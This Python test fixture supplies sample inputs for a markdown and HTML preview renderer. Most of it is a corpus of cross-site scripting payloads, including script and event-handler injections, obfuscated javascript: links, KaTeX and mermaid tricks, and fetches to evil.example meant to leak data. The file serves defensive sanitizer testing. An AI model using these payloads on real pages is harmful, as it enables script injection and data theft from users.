"""Texts for the page to draw: one with each element that it knows, and some that try to run code or to ask a foreign
host."""

from __future__ import annotations

import base64
from typing import Final

from assistant.tools.mcp_client.server_connection import LONGEST_NAME

PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"
    "+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
RICH = f"""# Heading

Some **bold** text, `code`, a [link](https://example.org/a) and a [bad one](javascript:alert(1)).

```python
def add(a, b):
    return a + b
```

| name | value |
| ---- | ----- |
| one  | 1     |

- [x] done
- [ ] open

Euler: $e^{{i\\pi}} + 1 = 0$ and for $5 or $6.

$$
\\int_0^1 x\\,dx = \\frac{{1}}{{2}}
$$

```mermaid
graph TD
  A[Start] --> B[End]
```

```mermaid
graph nonsense ((
```

```html
<p id="told">Hello from the preview</p><script>document.getElementById("told").textContent += "!"</script>
```

![a pixel]({PIXEL})

![secret](https://evil.example/leak.png?data=1)
"""


RUN: Final = "window.__owned=1;top.__owned=1;fetch('https://evil.example/')"
IMAGE: Final = f'<img src="https://evil.example/i.png" onerror="{RUN}">'
SVG: Final = base64.b64encode(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>'.encode()).decode()
CORPUS: Final = (
    f"<script>{RUN}</script>",
    f"Text {IMAGE} text",
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    f'<iframe src="javascript:{RUN}"></iframe>',
    "<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>",
    '<link rel="stylesheet" href="https://evil.example/a.css"><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    f'<a href="javascript:{RUN}">click</a> <form action="javascript:{RUN}"><button>click</button></form>',
    f'<object data="javascript:{RUN}"></object><embed src="javascript:{RUN}">',
    f"<math><mtext></p>{IMAGE}</mtext></math><table><td>{IMAGE}",
    f"<details open ontoggle='{RUN}'><video><source onerror='{RUN}'></video>",
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt&colon;{RUN}) [click](&#106;avascript:{RUN}) [click](java%0ascript:{RUN})",
    f"[click](data:text/html;base64,{SVG}) [click](vbscript:{RUN}) [click](blob:null/x)",
    f"[click][a]\n\n[a]: javascript:{RUN}",
    f'<javascript:{RUN}> https://evil.example/"onmouseover="{RUN}',
    f"![svg](data:image/svg+xml;base64,{SVG})",
    f'![x](https://evil.example/x.png"onerror="{RUN}) ![x](javascript:{RUN}) ![x](data:text/html,{RUN})',
    f"![<img onerror={RUN}>](https://evil.example/leak?secret)",
    f"| {IMAGE} |\n| --- |\n| [click](javascript:{RUN}) |",
    f"Note[^1].\n\n[^1]: {IMAGE} [click](javascript:{RUN})",
    f"$\\href{{javascript:{RUN}}}{{x}}$ and $\\url{{javascript:x}}$",
    "$\\htmlClass{a}{x}$ $\\htmlId{root}{x}$ $\\htmlStyle{color: red}{x}$ $\\htmlData{a=b}{x}$",
    "$\\includegraphics{https://evil.example/x.png}$ $$\\pmb{x} \\fcolorbox{red}{blue}{x} \\boxed{x}$$",
    "$$\\def\\a{\\a\\a}\\a$$ $\\rule{1000em}{1000em}$ $<script>x</script>$",
    f'```mermaid\ngraph TD\n  A["{IMAGE.replace(chr(34), chr(39))}"] --> B\n'
    f'  click A call run() "x"\n  click B href "javascript:{RUN}" "y"\n```',
    f'```mermaid\n%%{{init: {{"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/a.css)"}}}}%%\n'
    f"graph TD\n  C[<script>{RUN}</script>] --> D\n```",
    f"```mermaid\nsequenceDiagram\n  A->>B: #lt;img onerror={RUN}#gt; &lt;script&gt;{RUN}&lt;/script&gt;\n```",
    f"```html\n<script>{RUN}</script>\n```",
    f"```<script>{RUN}</script>\n{IMAGE}\n```",
    f'````"onload={RUN}\nx\n````',
)
ATTACKING_NAMES: Final = tuple(text for text in CORPUS if len(text) <= LONGEST_NAME and text.isprintable())
"""Those of them that can be the name of a prompt or the address of a resource."""
